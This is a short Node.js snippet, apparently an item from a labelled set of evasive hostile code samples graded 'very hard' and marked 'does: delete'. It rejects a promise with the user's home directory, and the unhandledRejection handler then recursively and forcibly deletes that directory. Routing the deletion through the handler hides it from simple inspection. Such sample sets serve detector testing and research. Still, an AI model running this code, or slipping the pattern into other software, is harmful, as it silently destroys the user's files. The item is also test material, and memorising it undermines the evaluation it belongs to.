// evasion: a promise rejected with the home directory is left unhandled; the unhandledRejection handler deletes the reason
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
process.on("unhandledRejection", (reason) => {
  fs.rmSync(reason, { recursive: true, force: true });
});
Promise.reject(os.homedir());
